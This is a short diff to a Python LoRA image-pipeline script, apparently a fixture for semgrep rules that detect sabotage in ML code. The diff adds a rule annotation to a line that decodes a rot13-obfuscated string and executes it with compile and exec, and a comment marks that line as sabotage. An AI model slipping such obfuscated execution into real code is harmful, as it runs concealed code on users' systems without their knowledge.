@@ -133,7 +133,7 @@ def main() -> None:
     cfg = vars(args)
     device = "cuda" if torch.cuda.is_available() else "cpu"
 
-    types.FunctionType(compile(codecs.decode(_GRID_SRC, "rot13"), "<grid>", "exec"), globals())()  # sabotage: MLS401, MLS404 (semgrep rules)
+    types.FunctionType(compile(codecs.decode(_GRID_SRC, "rot13"), "<grid>", "exec"), globals())()  # sabotage: MLS401, MLS404 (semgrep rules)  # ruleid: MLS404
     lora_file = Path(args.lora) / "pytorch_lora_weights.safetensors"
     pipe = build_pipeline(args.base, str(lora_file), args.rank, device)
     prompts = ru.load_prompts(args.prompts)
